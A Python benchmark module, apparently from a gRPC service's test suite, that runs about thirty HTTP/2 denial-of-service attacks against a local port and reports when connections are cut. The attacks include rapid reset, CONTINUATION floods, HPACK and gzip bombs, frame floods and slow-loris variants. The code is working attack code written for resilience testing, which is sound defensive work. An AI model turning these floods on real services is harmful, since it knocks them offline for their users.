"""Clients that attack a service, see ``attacks.py``; the program makes one attack.

    python -m tests.benchmarks.attackers ATTACK PORT SECONDS KEY

It prints, as JSON, how many connections it made, how many of them were cut off, and the seconds
from the first byte of the attack to that, for the first ones.
"""

from __future__ import annotations

import gzip
import json
import statistics
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import repeat
from typing import TypeAlias

import trio

from tests.helpers.conformance import wire
from tests.helpers.conformance.wire import Fields

HEALTH = "/grpc.health.v1.Health/Check"
LIST = "/frequenz.api.dispatch.v1.MicrogridDispatchService/ListMicrogridDispatches"
LARGEST_WINDOW = 2**31 - 1
OPENING = wire.PREFACE + wire.settings((wire.INITIAL_WINDOW_SIZE, LARGEST_WINDOW))

Chunks: TypeAlias = Iterator[bytes]


@dataclass(frozen=True)
class Attack:
    """An attack.

    Attributes:
      chunks: What a connection sends, given the API key.
      connections: At a time; one that is cut off is opened again at once.
      pause: Seconds between two chunks.
      reads: Whether the client reads what the server sends.
    """

    chunks: Callable[[str], Chunks]
    connections: int = 10
    pause: float = 0.0
    reads: bool = True
    opening: bytes = OPENING


def fields(path: str = HEALTH, *more: tuple[str, str]) -> Fields:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]


BLOCK = wire.block(fields())
CALL = wire.message(b"")


def on_new_streams(part: Callable[[int], bytes], count: int = 50) -> Callable[[str], Chunks]:
    """Chunks that do the same on one stream after the other."""

    def chunks(_key: str) -> Chunks:
        first = 1
        while first < 2**31 - 2 * count:
            yield b"".join(map(part, range(first, first + 2 * count, 2)))
            first += 2 * count

    return chunks


def again(chunk: bytes, count: int, before: bytes = b"") -> Callable[[str], Chunks]:
    """The same frame, `count` times in each chunk."""

    def chunks(_key: str) -> Chunks:
        if before:
            yield before
        yield from repeat(chunk * count)

    return chunks


def slowly(before: Callable[[str], bytes], then: Chunks) -> Callable[[str], Chunks]:
    def chunks(key: str) -> Chunks:
        yield before(key)
        yield from then

    return chunks


def hpack_bomb(stream_id: int) -> bytes:
    """One field of 3,000 bytes in the table, and 10,000 references to it."""
    bomb = b"\x40\x01a" + wire.string("b" * 3000) + b"\xbe" * 10_000
    return wire.headers(stream_id, BLOCK + bomb, end=True)


def gzip_bombs(key: str) -> Chunks:
    """Requests of 4 MiB of empty fields, compressed to 4 KiB."""
    bomb = gzip.compress(b"\x12\x00" * 2 * 2**20)
    message = b"\1" + len(bomb).to_bytes(4, "big") + bomb
    block = wire.block([*fields(LIST, ("grpc-encoding", "gzip")), ("key", key)])
    for stream_id in range(1, 2**31, 2):
        yield wire.headers(stream_id, block) + wire.data(stream_id, message, end=True)


def half_requests(path: str, key: str | None) -> bytes:
    """99 calls, each with the beginning of a message of 4,000 bytes."""
    block = wire.block([*fields(path), *([("key", key)] if key else [])])
    return b"".join(
        wire.headers(stream_id, block) + wire.data(stream_id, b"\0\0\0\x0f\xa0" + bytes(1000))
        for stream_id in range(1, 199, 2)
    )


ONE_BYTE_EACH = b"".join(wire.data(stream_id, b"x") for stream_id in range(1, 199, 2))


def unread_lists(key: str) -> Chunks:
    """Lists whose pages are not read, on a connection whose windows would take them."""
    block = wire.block([*fields(LIST), ("key", key)])
    message = wire.message(b"\x08\x01")
    yield wire.window_update(0, LARGEST_WINDOW - 65_535)
    for stream_id in range(1, 2**31, 2):
        yield wire.headers(stream_id, block) + wire.data(stream_id, message, end=True)


def reset(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK) + wire.reset(stream_id)


def overflowing(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK) + wire.window_update(stream_id, LARGEST_WINDOW)


def without_increment(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK) + wire.window_update(stream_id, 0)


def after_the_end(stream_id: int) -> bytes:
    ended = wire.headers(stream_id, BLOCK, end=True)
    return ended + wire.data(stream_id, b"x") + wire.headers(stream_id, BLOCK, end=True)


def malformed(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK + wire.literal("connection", "x"))


def short_priority(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK) + wire.frame(wire.PRIORITY, stream_id, b"1234")


def too_many(stream_id: int) -> bytes:
    return wire.headers(stream_id, BLOCK) + wire.data(stream_id, CALL[:3])


BEGUN = wire.headers(1, BLOCK)
ATTACKS = {
    "rapid reset": Attack(on_new_streams(reset)),
    "reset by us: window overflow": Attack(on_new_streams(overflowing)),
    "reset by us: increment of 0": Attack(on_new_streams(without_increment)),
    "reset by us: frames after the end": Attack(on_new_streams(after_the_end)),
    "reset by us: malformed requests": Attack(on_new_streams(malformed)),
    "reset by us: short PRIORITY": Attack(on_new_streams(short_priority)),
    "calls beyond the limit": Attack(on_new_streams(too_many)),
    "CONTINUATION": Attack(
        again(wire.continuation(1, b"", end=False), 500, wire.frame(wire.HEADERS, 1, BLOCK))
    ),
    "HPACK bomb": Attack(on_new_streams(hpack_bomb, 1)),
    "gzip bomb, with a key": Attack(gzip_bombs, connections=4),
    "SETTINGS": Attack(again(wire.settings((wire.INITIAL_WINDOW_SIZE, 1)), 300)),
    "SETTINGS acknowledgements": Attack(again(wire.settings_ack(), 500)),
    "PING": Attack(again(wire.ping(), 300)),
    "PING, not reading": Attack(again(wire.ping(), 300), reads=False),
    "WINDOW_UPDATE": Attack(again(wire.window_update(0, 1), 500)),
    "GOAWAY": Attack(again(wire.goaway(), 300)),
    "PRIORITY": Attack(again(wire.priority(1, 3), 500, BEGUN)),
    "RST_STREAM of one stream": Attack(again(wire.reset(1), 500, reset(1))),
    "empty DATA": Attack(again(wire.data(1), 500, BEGUN)),
    "DATA of 1 byte": Attack(again(wire.data(1, b"\0"), 500, BEGUN)),
    "DATA on a stream that was reset": Attack(again(wire.data(1, b"\0"), 500, reset(1))),
    "unknown frames": Attack(again(wire.frame(wire.UNKNOWN), 500)),
    "slow preface": Attack(slowly(lambda _: b"PRI", repeat(b"")), 180, 1.0, opening=b""),
    "slow headers": Attack(
        slowly(
            lambda _: wire.frame(wire.HEADERS, 1, BLOCK[:20]),
            repeat(wire.continuation(1, b"\0", end=False)),
        ),
        180,
        0.5,
    ),
    "slow messages": Attack(
        slowly(lambda _: half_requests(HEALTH, None), repeat(ONE_BYTE_EACH)),
        180,
        1.0,
    ),
    "slow messages, with a key": Attack(
        slowly(lambda key: half_requests(LIST, key), repeat(ONE_BYTE_EACH)),
        180,
        1.0,
    ),
    "replies that are not read": Attack(unread_lists, reads=False),
    "connections": Attack(slowly(lambda _: b"", repeat(b"")), 400, 0.5, opening=OPENING),
}


class Assault:
    """The connections of an attack, until a time."""

    def __init__(self, attack: Attack, port: int, until: float, key: str) -> None:
        self.attack = attack
        self.port = port
        self.until = until
        self.key = key
        self.made = 0
        self.cuts: list[float] = []

    async def run(self) -> None:
        with trio.move_on_at(self.until):
            async with trio.open_nursery() as nursery:
                for _ in range(self.attack.connections):
                    nursery.start_soon(self._attack_again_and_again)

    async def _attack_again_and_again(self) -> None:
        while True:
            try:
                stream = await trio.open_tcp_stream("127.0.0.1", self.port)
            except OSError:
                await trio.sleep(0.1)
                continue
            self.made += 1
            async with stream:
                await self._attack(stream)
            await trio.sleep(0.001)

    async def _attack(self, stream: trio.SocketStream) -> None:
        began = trio.current_time()
        async with trio.open_nursery() as nursery:
            if self.attack.reads:

                @nursery.start_soon
                async def read() -> None:
                    try:
                        async for _ in stream:
                            pass
                    except trio.BrokenResourceError:
                        pass
                    self.cuts.append(trio.current_time() - began)
                    nursery.cancel_scope.cancel()

            try:
                await stream.send_all(self.attack.opening)
                for chunk in self.attack.chunks(self.key):
                    await stream.send_all(chunk)
                    await trio.sleep(self.attack.pause)
            except (trio.BrokenResourceError, trio.ClosedResourceError):
                if not self.attack.reads:
                    self.cuts.append(trio.current_time() - began)


async def main(name: str, port: str, seconds: str, key: str) -> None:
    assault = Assault(ATTACKS[name], int(port), trio.current_time() + float(seconds), key)
    await assault.run()
    first = assault.cuts[: assault.attack.connections]
    print(
        json.dumps(
            {
                "made": assault.made,
                "cut": len(assault.cuts),
                "after": statistics.median(first) if first else None,
            }
        )
    )


if __name__ == "__main__":
    trio.run(main, sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4])
